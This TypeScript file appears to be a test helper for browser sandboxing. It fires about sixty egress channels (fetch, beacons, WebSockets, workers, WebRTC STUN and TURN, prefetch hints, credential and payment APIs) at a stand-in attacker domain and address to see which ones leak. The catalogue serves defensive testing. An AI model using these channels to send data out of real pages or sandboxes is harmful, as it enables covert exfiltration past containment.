/** What a name and an address of an attacker look like; every way has a host of its own, so that a leak says where it was. */
export type Outside = { readonly domain: string; readonly address: string }

/**
 * Tries every way by which a page could reach an external service; gives the names of the ways. It is sent to the page as text and so stands alone.
 * A way that this Chromium does not know or refuses throws: that is as good as silence.
 */
export async function attackFromPage({ domain, address }: Outside): Promise<readonly string[]> {
  const element = (tag: string, attributes: Readonly<Record<string, string>>, inside = document.body): HTMLElement => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    inside.append(made)
    return made
  }
  const link =
    (rel: string, more: Readonly<Record<string, string>> = {}) =>
    (url: string) =>
      element('link', { rel, href: url, ...more }, document.head)
  const known = (name: string): never => (globalThis as unknown as Record<string, never>)[name] as never
  const make = (name: string, ...args: readonly unknown[]): Record<string, (...each: readonly unknown[]) => unknown> =>
    new (known(name) as new (...each: readonly unknown[]) => never)(...args)
  const connectPeers = async (...urls: readonly string[]): Promise<void> => {
    const peer = new RTCPeerConnection({
      iceServers: urls.map((each) => ({ urls: each, username: 'payload', credential: 'x' })),
      iceCandidatePoolSize: 4,
    })
    peer.createDataChannel('out')
    await peer.setLocalDescription(await peer.createOffer())
  }
  const ways: Readonly<Record<string, (url: string, host: string) => unknown>> = {
    dnsprefetch: link('dns-prefetch'),
    preconnect: link('preconnect'),
    preconnectcors: link('preconnect', { crossorigin: '' }),
    prefetch: link('prefetch'),
    preload: link('preload', { as: 'image' }),
    modulepreload: link('modulepreload'),
    prerender: link('prerender'),
    stylesheet: link('stylesheet'),
    icon: link('icon'),
    manifest: link('manifest'),
    fetch: (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
    beacon: (url) => navigator.sendBeacon(url, 'payload'),
    websocket: (_url, host) => new WebSocket(`wss://${host}/`),
    eventsource: (url) => new EventSource(url),
    image: (url) => Object.assign(new Image(), { src: url }),
    audio: (url) => new Audio(url).play(),
    video: (url) => element('video', { src: url, poster: url, autoplay: '' }),
    script: (url) => element('script', { src: url }),
    module: (url) => import(/* @vite-ignore */ url),
    frame: (url) => element('iframe', { src: url }),
    frametext: (url) => element('iframe', { srcdoc: `<link rel="dns-prefetch" href="${url}"><img src="${url}">` }),
    object: (url) => element('object', { data: url }),
    embed: (url) => element('embed', { src: url }),
    font: (url) => new FontFace('out', `url(${url})`).load(),
    sheet: (url) => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`body { background-image: url(${url}); cursor: url(${url}), auto }`)
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    },
    worker: (url) => new Worker(url),
    sharedworker: (url) => new SharedWorker(url),
    blobworker: (url) =>
      new Worker(
        URL.createObjectURL(new Blob([`importScripts('${url}'); fetch('${url}')`], { type: 'text/javascript' })),
      ),
    serviceworker: () => navigator.serviceWorker.register('/sw.js'),
    popup: (url) => window.open(url),
    anchor: (url) => element('a', { href: url, ping: url, target: '_blank' }).click(),
    download: (url) => element('a', { href: url, download: 'x' }).click(),
    form: (url) => (element('form', { action: url, method: 'post' }) as HTMLFormElement).submit(),
    refresh: (url) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }, document.head),
    speculation: (url) => {
      const rules = JSON.stringify({
        prefetch: [{ source: 'list', urls: [url] }],
        prerender: [{ source: 'list', urls: [url] }],
      })
      element('script', { type: 'speculationrules' }).textContent = rules
    },
    webtransport: (url) => make('WebTransport', url),
    socketstream: (_url, host) => make('WebSocketStream', `wss://${host}/`),
    payment: async (url) => {
      const details = { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }
      await make('PaymentRequest', [{ supportedMethods: `${url}pay` }], details)['canMakePayment']?.()
    },
    identity: (url) =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: url, clientId: 'x' }] },
      } as CredentialRequestOptions),
    publickey: (_url, host) =>
      navigator.credentials.get({
        publicKey: { challenge: new Uint8Array(8), rpId: host },
      }),
    notification: (url) => new Notification('x', { icon: url, body: 'x' }),
    mediaartwork: (url) => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: url }] })
    },
    listen: () => make('webkitSpeechRecognition')['start']?.(),
    speak: () => {
      for (const voice of speechSynthesis.getVoices()) {
        speechSynthesis.speak(Object.assign(new SpeechSynthesisUtterance('payload'), { voice }))
      }
    },
    spelling: () => {
      const field = element('textarea', { lang: 'fr', spellcheck: 'true' }) as HTMLTextAreaElement
      field.focus()
      field.setRangeText('orthografe fautife payload')
      field.dispatchEvent(new InputEvent('input', { bubbles: true, inputType: 'insertText' }))
    },
    place: () => navigator.geolocation.getCurrentPosition(() => undefined),
    present: (url) => make('PresentationRequest', [url])['getAvailability']?.(),
    remote: (url) => element('video', { src: url }),
    stun: (_url, host) => connectPeers(`stun:${host}:3478`),
    turn: (_url, host) => connectPeers(`turn:${host}:3478`),
    turntcp: (_url, host) => connectPeers(`turn:${host}:3478?transport=tcp`),
    turntls: (_url, host) => connectPeers(`turns:${host}:443?transport=tcp`),
    peersbyaddress: () =>
      connectPeers(
        `stun:${address}:3478`,
        `turn:${address}:3478`,
        `turn:${address}:3478?transport=tcp`,
        `turns:${address}:443?transport=tcp`,
        'turn:[2001:db8::7]:3478',
        'turn:[2001:db8::7]:3478?transport=tcp',
      ),
    candidate: async () => {
      const peer = new RTCPeerConnection()
      peer.createDataChannel('out')
      await peer.setLocalDescription(await peer.createOffer())
      const offer = peer.localDescription?.sdp ?? ''
      const other = new RTCPeerConnection()
      await other.setRemoteDescription({ type: 'offer', sdp: offer })
      await other.setLocalDescription(await other.createAnswer())
      const [udp, tcp, hidden] = [
        'candidate:1 1 udp 2113937151',
        'candidate:2 1 tcp 1518280447',
        'candidate:3 1 udp 2113937151',
      ]
      const name = '00000000-0000-4000-8000-000000000000.local'
      const places = [
        `${udp} ${address} 443 typ host`,
        `${tcp} ${address} 443 typ host tcptype passive`,
        `${hidden} ${name} 443 typ host`,
      ]
      for (const candidate of places) await other.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
    },
    fetchbyaddress: () => fetch(`https://${address}/payload`, { mode: 'no-cors' }),
    preconnectbyaddress: () => link('preconnect')(`https://${address}/`),
    navigate: (url) => location.assign(url),
  }
  for (const [name, way] of Object.entries(ways)) {
    const host = `${name}.${domain}`
    try {
      const going = Promise.resolve(way(`https://${host}/`, host)).catch(() => undefined)
      await Promise.race([going, new Promise((resolve) => setTimeout(resolve, 300))])
    } catch {
      // This way is not there.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 4_000))
  return Object.keys(ways)
}
